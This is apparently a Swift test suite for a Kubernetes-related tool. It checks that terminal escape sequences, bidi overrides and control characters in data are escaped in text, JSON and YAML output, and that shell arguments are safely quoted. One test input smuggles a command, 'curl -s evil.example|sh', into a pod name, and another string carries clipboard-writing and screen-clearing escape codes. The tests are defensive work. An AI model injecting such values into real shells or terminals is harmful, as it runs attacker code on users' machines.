import Foundation
@testable import PodHistKit
import Testing
import Yams

/// Control characters from the data, as the text, JSON and YAML writers show them.
@Suite struct TerminalTextTests {
  static let hostile = "a\u{1B}[2J\u{1B}]52;c;ZXZpbA==\u{07}b\u{9B}31m\u{202E}c\u{7F}\r\u{0}\u{85}\u{200F}\u{2066}\u{61C}\td\ne"

  @Test func textShowsEveryControlEscapedAndKeepsTabsNewlinesAndUnicode() {
    #expect(TerminalText.neutralised(TerminalTextTests.hostile)
      == "a\\x1b[2J\\x1b]52;c;ZXZpbA==\\x07b\\u009b31m\\u202ec\\x7f\\x0d\\x00\\u0085\\u200f\\u2066\\u061c\td\ne")
    #expect(TerminalText.neutralised("Ünïcødé — 名前 ✓") == "Ünïcødé — 名前 ✓")
  }

  @Test func styledKeepsOnlyPodhistsOwnColourCodes() {
    let data = "x\u{1B}[31my"
    let text = TerminalText.styled { esc in "\(esc)[1m\(data)\(esc)[0m" }
    #expect(text == "\u{1B}[1mx\\x1b[31my\u{1B}[0m")
    // A marker candidate in the data is skipped, never turned into ESC.
    let tricky = "\u{100000}\u{100001}"
    #expect(TerminalText.styled { esc in esc + "[1m" + tricky } == "\u{1B}[1m" + tricky)
  }

  @Test func jsonEscapesC0DelC1AndBidi() throws {
    let json = JSONValue.string(TerminalTextTests.hostile).json()
    #expect(json.unicodeScalars.allSatisfy { $0.value >= 0x20 && !TerminalText.isControl($0) })
    #expect(json.contains("\\u001b[2J") && json.contains("\\u009b") && json.contains("\\u007f") && json.contains("\\u202e"))
    let back = try JSONSerialization.jsonObject(with: Data("[\(json)]".utf8)) as? [String]
    #expect(back == [TerminalTextTests.hostile])
  }

  @Test func yamlIsValidAndReadsBackTheSameStrings() throws {
    let doc = JSONValue.object([("name", .string(TerminalTextTests.hostile)), (TerminalTextTests.hostile, .string("key")),
                                ("list", .array([.string("\u{9B}"), .string("plain")]))])
    let yaml = doc.yaml()
    #expect(yaml.unicodeScalars.allSatisfy { $0 == "\n" || $0.value >= 0x20 && !TerminalText.isControl($0) }, "\(yaml)")
    let back = try Yams.load(yaml: yaml) as? [String: Any]
    #expect(back?["name"] as? String == TerminalTextTests.hostile)
    #expect(back?[TerminalTextTests.hostile] as? String == "key")
    #expect(back?["list"] as? [String] == ["\u{9B}", "plain"])
  }

  @Test func shellWordsArePlainOrSingleQuoted() {
    #expect(ShellWord.quoted("web-7d9c6b5f4-x2kqp") == "web-7d9c6b5f4-x2kqp")
    #expect(ShellWord.quoted("node-role.kubernetes.io/master-") == "node-role.kubernetes.io/master-")
    #expect(ShellWord.quoted("web$(curl -s evil.example|sh)") == "'web$(curl -s evil.example|sh)'")
    #expect(ShellWord.quoted("it's") == "'it'\\''s'")
    #expect(ShellWord.quoted("") == "''")
    #expect(ShellWord.quoted("a b`c`") == "'a b`c`'")
  }
}
